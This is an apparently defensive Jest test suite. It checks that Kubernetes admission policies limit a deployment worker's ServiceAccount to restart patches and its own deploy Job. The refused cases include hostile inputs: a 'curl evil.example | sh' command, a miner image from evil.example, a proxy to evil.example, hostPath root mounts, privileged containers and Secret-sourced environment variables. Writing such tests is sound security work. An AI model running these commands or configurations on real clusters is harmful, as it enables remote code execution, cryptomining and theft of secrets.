import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import * as k8s from '@kubernetes/client-node';
import { parseInventory } from '../../../src/shared/inventory.js';
import { buildDeployJob } from '../../../worker/jobs/deploy.js';
import {
  adminKubeConfig,
  chartRelease,
  createDeployments,
  inventory,
  PROJECT,
  serviceAccountToken,
  tokenKubeConfig,
} from '../../helpers/controlPlaneFixtures.js';
import { waitFor } from '../../helpers/waitFor.js';

jest.setTimeout(180_000);

/**
 * The chart's ValidatingAdmissionPolicies (templates/admission-policy.yaml) on the
 * real kube-apiserver, with requests made under the worker ServiceAccount's own token: the
 * restartedAt patch restart_service sends and the Job run_deploy_pipeline builds pass; any other
 * change to a Deployment, and a Job that differs from the worker's in any rule of the policy
 * (image and ServiceAccount, host namespaces and paths, ServiceAccount token, volumes, security
 * contexts, command, environment), are refused (403) even though RBAC allows the verb.
 */
describe('ValidatingAdmissionPolicy of the worker', () => {
  const rel = chartRelease('vap');
  const { ns } = rel;
  let wApps: k8s.AppsV1Api;
  let wBatch: k8s.BatchV1Api;
  let admin: k8s.KubeConfig;

  beforeAll(async () => {
    const cluster = await rel.setUp({ install: true });
    await createDeployments(cluster, [
      [ns.apps, 'web'],
      [ns.data, 'cache'],
    ]);
    admin = adminKubeConfig(cluster);
    const kc = tokenKubeConfig(admin, await serviceAccountToken(admin, ns.release, 'opsgate-worker'));
    wApps = kc.makeApiClient(k8s.AppsV1Api);
    wBatch = kc.makeApiClient(k8s.BatchV1Api);
    // A new policy is enforced once the apiserver's policy informer has it (asynchronous): wait
    // for a refused server-side dry run of each kind (nothing is changed) before the tests start.
    const answer = (p: Promise<unknown>) =>
      p.then(
        () => 200,
        (e: { code?: number }) => e.code,
      );
    await waitFor(
      'the Deployment policy to refuse a dry-run patch of replicas',
      async () =>
        (await answer(
          wApps.patchNamespacedDeployment(
            { name: 'web', namespace: ns.apps, dryRun: 'All', body: { spec: { replicas: 7 } } },
            k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.StrategicMergePatch),
          ),
        )) === 403,
      60_000,
      250,
    );
    const evil: k8s.V1Job = {
      metadata: { name: 'vap-enforced' },
      spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'x', image: 'evil.example/miner:1' }] } } },
    };
    await waitFor(
      'the Job policy to refuse a dry-run Job of another image',
      async () => (await answer(wBatch.createNamespacedJob({ namespace: ns.deploy, body: evil, dryRun: 'All' }))) === 403,
      60_000,
      250,
    );
  }, 240_000);

  afterAll(() => rel.tearDown(), 120_000);

  type Outcome = { code: number; message: string };
  const outcome = (p: Promise<unknown>): Promise<Outcome> =>
    p.then(
      () => ({ code: 200, message: '' }),
      (e: { code?: number; body?: unknown }) => ({
        code: e.code ?? 0,
        message: typeof e.body === 'string' ? e.body : JSON.stringify(e.body ?? ''),
      }),
    );
  const patch = (name: string, namespace: string, body: object) =>
    outcome(
      wApps.patchNamespacedDeployment(
        { name, namespace, body, fieldManager: 'opsgate' },
        k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.StrategicMergePatch),
      ),
    );

  it('both policies and their bindings are installed by the chart, and type-check clean against Deployment and Job', async () => {
    const api = admin.makeApiClient(k8s.AdmissionregistrationV1Api);
    // kube-controller-manager type-checks each expression against the schema of the kind the
    // policy matches (a misspelt field, a wrong type) and records the result in the status.
    const typeChecked = (name: string) =>
      waitFor(
        `the type check of ${name} (status.observedGeneration)`,
        async () => {
          const p = await api.readValidatingAdmissionPolicy({ name });
          return p.status?.observedGeneration === p.metadata?.generation && p.status?.typeChecking ? p : undefined;
        },
        60_000,
        250,
      );
    for (const kind of ['deployments', 'jobs']) {
      const name = `${ns.release}-opsgate-worker-${kind}`;
      const policy = await typeChecked(name);
      expect(policy.spec?.matchConditions?.[0]?.expression).toContain(`system:serviceaccount:${ns.release}:opsgate-worker`);
      expect({ name, warnings: policy.status?.typeChecking?.expressionWarnings ?? [] }).toEqual({ name, warnings: [] });
      expect((await api.readValidatingAdmissionPolicyBinding({ name })).spec?.validationActions).toEqual(['Deny']);
    }
    // The check is real for this shape of policy: the Job policy with one field misspelt, created
    // without a binding (so it refuses nothing), gets a warning naming it.
    const jobs = await api.readValidatingAdmissionPolicy({ name: `${ns.release}-opsgate-worker-jobs` });
    const probe = `${ns.release}-typecheck-probe`;
    const validations = jobs.spec!.validations!.map((v) => ({ ...v, expression: v.expression.replace('hostPID', 'hostPIDs') }));
    expect(validations.map((v) => v.expression).join()).toContain('hostPIDs');
    await api.createValidatingAdmissionPolicy({ body: { metadata: { name: probe }, spec: { ...jobs.spec, validations } } });
    try {
      const checked = await typeChecked(probe);
      expect(JSON.stringify(checked.status?.typeChecking?.expressionWarnings ?? [])).toMatch(/undefined field 'hostPIDs'/);
    } finally {
      await api.deleteValidatingAdmissionPolicy({ name: probe });
    }
  });

  it('Deployment: the restartedAt patch of restart_service passes; every other change is refused (403)', async () => {
    // What `kubectl rollout restart` / restart_service sends (worker/jobs/restart.ts).
    const restart = (at: string) => ({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': at } } } } });
    expect(await patch('web', ns.apps, restart('2026-11-23T10:00:00Z'))).toMatchObject({ code: 200 });
    expect(await patch('web', ns.apps, restart('2026-11-23T10:05:00Z'))).toMatchObject({ code: 200 });
    expect(await patch('cache', ns.data, restart('2026-11-23T10:00:00Z'))).toMatchObject({ code: 200 });

    const refused: Array<[string, object]> = [
      ['another pod-template annotation', { spec: { template: { metadata: { annotations: { 'sidecar.example/inject': 'true' } } } } }],
      ['replicas', { spec: { replicas: 3 } }],
      ['the image', { spec: { template: { spec: { containers: [{ name: 'web', image: 'evil.example/miner:1' }] } } } }],
      ['a pod-template label', { spec: { template: { metadata: { labels: { extra: 'x' } } } } }],
      ['a Deployment label', { metadata: { labels: { owner: 'mallory' } } }],
      ['a Deployment annotation', { metadata: { annotations: { 'opsgate.io/rbac-test': 'x' } } }],
      ['paused', { spec: { paused: true } }],
      [
        'restartedAt together with the image',
        {
          spec: {
            template: {
              metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': 'x' } },
              spec: { containers: [{ name: 'web', image: 'evil.example/miner:1' }] },
            },
          },
        },
      ],
    ];
    for (const [what, body] of refused) {
      const r = await patch('web', ns.apps, body);
      expect({ what, code: r.code }).toEqual({ what, code: 403 });
      expect(r.message).toMatch(/only the kubectl\.kubernetes\.io\/restartedAt annotation/);
    }
    const d = await admin.makeApiClient(k8s.AppsV1Api).readNamespacedDeployment({ name: 'web', namespace: ns.apps });
    expect(d.spec?.replicas).toBe(0);
    expect(d.spec?.template.spec?.containers[0]?.image).toBe('registry.example.com/web:1');
    expect(d.spec?.template.metadata?.annotations).toEqual({ 'kubectl.kubernetes.io/restartedAt': '2026-11-23T10:05:00Z' });
    // The policy binds the worker only: an administrator may still change the Deployment.
    await admin
      .makeApiClient(k8s.AppsV1Api)
      .patchNamespacedDeployment(
        { name: 'web', namespace: ns.apps, body: { metadata: { labels: { owner: 'sre' } } } },
        k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.StrategicMergePatch),
      );
  });

  /**
   * Jobs created with the worker's token: the one run_deploy_pipeline builds (buildDeployJob, from
   * the chart's own inventory) and, for each rule of the policy, Jobs that differ from it in that
   * rule only. The apiserver names the first validation that fails, so each refusal names its rule.
   */
  describe('Job', () => {
    const entry = () => parseInventory(JSON.stringify(inventory(ns))).projects[PROJECT]!;
    let n = 0;
    const job = (mutate: (j: k8s.V1Job, pod: k8s.V1PodSpec, c: k8s.V1Container) => void = () => {}, rollback = false) => {
      const j = buildDeployJob({
        name: `vap-deploy-${++n}`,
        project: PROJECT,
        ref: 'refs/heads/main',
        auditId: 'a1',
        requestedBy: 'webhook:scm',
        queueJobId: String(n),
        eventId: 'scm:group/shop:refs/heads/main:0123abc',
        sha: '0123456789abcdef0123456789abcdef01234567',
        rollback,
        entry: entry(),
      });
      const pod = j.spec!.template.spec!;
      mutate(j, pod, pod.containers[0]!);
      return j;
    };
    const create = (body: k8s.V1Job, namespace = ns.deploy) =>
      outcome(wBatch.createNamespacedJob({ namespace, body: { ...body, metadata: { ...body.metadata, namespace } } }));
    const created: string[] = [];

    /** Each case: 403 with its rule's message (and the apiserver refused it, not its validation: 403, not 422). */
    async function expectRefused(rule: RegExp, cases: Array<[string, k8s.V1Job]>) {
      for (const [what, body] of cases) {
        const r = await create(body);
        expect({ what, code: r.code }).toEqual({ what, code: 403 });
        expect({ what, message: r.message }).toEqual({ what, message: expect.stringMatching(rule) });
      }
    }

    it("the worker's own Job passes, whatever the request's audit id and commit; so does one without a commit (no sha in the job's data), and a rollback's (OPSGATE_ROLLBACK=true)", async () => {
      const ok1 = job();
      const ok2 = job((_j, _p, c) => {
        for (const e of c.env!) if (e.name === 'OPSGATE_AUDIT_ID' || e.name === 'OPSGATE_COMMIT_SHA') e.value = 'other-value';
      });
      const ok3 = job((_j, _p, c) => (c.env = c.env!.filter((e) => e.name !== 'OPSGATE_COMMIT_SHA')));
      const ok4 = job(undefined, true);
      expect(ok4.spec!.template.spec!.containers[0]!.env).toContainEqual({ name: 'OPSGATE_ROLLBACK', value: 'true' });
      for (const j of [ok1, ok2, ok3, ok4]) {
        expect(await create(j)).toEqual({ code: 200, message: '' });
        created.push(j.metadata!.name!);
      }
    });

    it("image and ServiceAccount: only an inventory project's, no init container (403)", () =>
      expectRefused(/a Job must use the image and ServiceAccount of an inventory project/, [
        ['another image', job((_j, _p, c) => (c.image = 'evil.example/miner:1'))],
        ['another ServiceAccount', job((_j, p) => (p.serviceAccountName = 'default'))],
        ['no ServiceAccount (the namespace default)', job((_j, p) => delete p.serviceAccountName)],
        [
          'only the deprecated serviceAccount field, pointing elsewhere',
          job((_j, p) => {
            delete p.serviceAccountName;
            p.serviceAccount = 'admin';
          }),
        ],
        ['a second container with another image', job((_j, p, c) => p.containers.push({ ...c, name: 'x', image: 'evil.example/miner:1' }))],
        ['an init container', job((_j, p, c) => (p.initContainers = [{ ...c, name: 'init' }]))],
      ]));

    it('host: no hostNetwork, hostPID, hostIPC, hostPath volume or hostPort (403)', () =>
      expectRefused(/may not use the host's network, PID or IPC namespace, a hostPath volume or a hostPort/, [
        ['hostNetwork', job((_j, p) => (p.hostNetwork = true))],
        ['hostPID', job((_j, p) => (p.hostPID = true))],
        ['hostIPC', job((_j, p) => (p.hostIPC = true))],
        ['the tmp volume a hostPath', job((_j, p) => (p.volumes = [{ name: 'tmp', hostPath: { path: '/', type: 'Directory' } }]))],
        ['a hostPort', job((_j, _p, c) => (c.ports = [{ containerPort: 8080, hostPort: 8080 }]))],
      ]));

    it('ServiceAccount token: automountServiceAccountToken must be false (403)', () =>
      expectRefused(/must not mount a ServiceAccount token/, [
        ['automountServiceAccountToken: true', job((_j, p) => (p.automountServiceAccountToken = true))],
        ['automountServiceAccountToken unset (the ServiceAccount decides)', job((_j, p) => delete p.automountServiceAccountToken)],
      ]));

    it('volumes: only the emptyDir tmp (256Mi) at /tmp (403)', () =>
      expectRefused(/only volume must be the emptyDir tmp \(256Mi\) mounted at \/tmp/, [
        [
          'tmp as a projected ServiceAccount token',
          job((_j, p) => (p.volumes = [{ name: 'tmp', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }])),
        ],
        ['tmp as a Secret', job((_j, p) => (p.volumes = [{ name: 'tmp', secret: { secretName: 'db-credentials' } }]))],
        ['a second volume, not mounted', job((_j, p) => p.volumes!.push({ name: 'cache', emptyDir: {} }))],
        [
          'a second volume, mounted',
          job((_j, p, c) => {
            p.volumes!.push({ name: 'cache', emptyDir: {} });
            c.volumeMounts!.push({ name: 'cache', mountPath: '/cache' });
          }),
        ],
        ['tmp in memory', job((_j, p) => (p.volumes![0]!.emptyDir!.medium = 'Memory'))],
        ['tmp larger', job((_j, p) => (p.volumes![0]!.emptyDir!.sizeLimit = '100Gi'))],
        ['tmp mounted elsewhere', job((_j, _p, c) => (c.volumeMounts![0]!.mountPath = '/usr/local/bin'))],
        ['tmp mounted with a subPath', job((_j, _p, c) => (c.volumeMounts![0]!.subPath = 'x'))],
        ['tmp not mounted', job((_j, _p, c) => delete c.volumeMounts)],
      ]));

    it('pod securityContext: runAsNonRoot and seccompProfile RuntimeDefault, nothing else (403)', () =>
      expectRefused(/pod securityContext must be runAsNonRoot and seccompProfile RuntimeDefault, nothing else/, [
        ['none', job((_j, p) => delete p.securityContext)],
        ['runAsNonRoot false', job((_j, p) => (p.securityContext!.runAsNonRoot = false))],
        ['seccompProfile Unconfined', job((_j, p) => (p.securityContext!.seccompProfile = { type: 'Unconfined' }))],
        ['runAsUser 0', job((_j, p) => (p.securityContext!.runAsUser = 0))],
        ['fsGroup', job((_j, p) => (p.securityContext!.fsGroup = 0))],
        ['supplementalGroups', job((_j, p) => (p.securityContext!.supplementalGroups = [0]))],
        ['sysctls', job((_j, p) => (p.securityContext!.sysctls = [{ name: 'kernel.msgmax', value: '65536' }]))],
        ['appArmorProfile Unconfined', job((_j, p) => (p.securityContext!.appArmorProfile = { type: 'Unconfined' }))],
        ['seLinuxOptions', job((_j, p) => (p.securityContext!.seLinuxOptions = { type: 'spc_t' }))],
      ]));

    it("containers' securityContext: exactly the worker's (403)", () =>
      expectRefused(/containers must run as non-root with no privilege escalation, a read-only root filesystem/, [
        ['none', job((_j, _p, c) => delete c.securityContext)],
        ['allowPrivilegeEscalation true', job((_j, _p, c) => (c.securityContext!.allowPrivilegeEscalation = true))],
        [
          // the apiserver's own validation refuses privileged with allowPrivilegeEscalation false
          'privileged',
          job((_j, _p, c) => Object.assign(c.securityContext!, { privileged: true, allowPrivilegeEscalation: true })),
        ],
        ['readOnlyRootFilesystem false', job((_j, _p, c) => (c.securityContext!.readOnlyRootFilesystem = false))],
        ['runAsNonRoot false', job((_j, _p, c) => (c.securityContext!.runAsNonRoot = false))],
        ['runAsUser 0', job((_j, _p, c) => (c.securityContext!.runAsUser = 0))],
        ['a capability added', job((_j, _p, c) => (c.securityContext!.capabilities = { drop: ['ALL'], add: ['NET_ADMIN'] }))],
        ['not every capability dropped', job((_j, _p, c) => (c.securityContext!.capabilities = { drop: ['NET_RAW'] }))],
        ['seccompProfile Unconfined', job((_j, _p, c) => (c.securityContext!.seccompProfile = { type: 'Unconfined' }))],
        ['appArmorProfile Unconfined', job((_j, _p, c) => (c.securityContext!.appArmorProfile = { type: 'Unconfined' }))],
        ['seLinuxOptions', job((_j, _p, c) => (c.securityContext!.seLinuxOptions = { type: 'spc_t' }))],
      ]));

    it("command: the project's command and args, and nothing else run (403)", () =>
      expectRefused(/must run its project's command and args only/, [
        ['another command', job((_j, _p, c) => (c.command = ['/bin/sh', '-c', 'curl evil.example | sh']))],
        ['other args', job((_j, _p, c) => (c.args = ['--apply', '--force']))],
        ["no command (the image's entrypoint)", job((_j, _p, c) => delete c.command)],
        ['no args', job((_j, _p, c) => delete c.args)],
        ['a postStart hook', job((_j, _p, c) => (c.lifecycle = { postStart: { exec: { command: ['/bin/sh', '-c', 'id'] } } }))],
        [
          'an exec liveness probe',
          job((_j, _p, c) => (c.livenessProbe = { exec: { command: ['/bin/sh', '-c', 'id'] }, periodSeconds: 10 })),
        ],
        ['a workingDir', job((_j, _p, c) => (c.workingDir = '/tmp'))],
      ]));

    it("environment: the project's env, an allowed ref, literal values only (403)", () => {
      const setEnv = (name: string, value: string) =>
        job((_j, _p, c) => {
          for (const e of c.env!) if (e.name === name) e.value = value;
        });
      return expectRefused(/environment must be its project's env, OPSGATE_PROJECT, an allowed OPSGATE_REF/, [
        [
          'a variable the project does not set',
          job((_j, _p, c) => c.env!.push({ name: 'HTTPS_PROXY', value: 'http://evil.example:3128' })),
        ],
        ["another value of the project's variable", setEnv('DEPLOY_ENV', 'staging')],
        ["the project's variable missing", job((_j, _p, c) => (c.env = c.env!.filter((e) => e.name !== 'DEPLOY_ENV')))],
        ['a ref the project does not allow', setEnv('OPSGATE_REF', 'refs/heads/evil')],
        ['no ref', job((_j, _p, c) => (c.env = c.env!.filter((e) => e.name !== 'OPSGATE_REF')))],
        ['another project', setEnv('OPSGATE_PROJECT', 'group/other')],
        ['TMPDIR elsewhere', setEnv('TMPDIR', '/usr/local/bin')],
        ['OPSGATE_ROLLBACK other than true', job((_j, _p, c) => c.env!.push({ name: 'OPSGATE_ROLLBACK', value: 'yes' }))],
        [
          'a value from a Secret',
          job((_j, _p, c) => {
            const audit = c.env!.find((e) => e.name === 'OPSGATE_AUDIT_ID')!;
            delete audit.value;
            audit.valueFrom = { secretKeyRef: { name: 'db-credentials', key: 'password' } };
          }),
        ],
        ['envFrom a Secret', job((_j, _p, c) => (c.envFrom = [{ secretRef: { name: 'db-credentials' } }]))],
      ]);
    });

    it('nothing refused was created; a Job in a namespace with no inventory project is refused by RBAC (403)', async () => {
      const jobs = await admin.makeApiClient(k8s.BatchV1Api).listNamespacedJob({ namespace: ns.deploy });
      expect(jobs.items.map((j) => j.metadata!.name).sort()).toEqual([...created].sort());
      expect(created).toHaveLength(4);
      expect((await create(job(), ns.other)).code).toBe(403);
    });
  });
});
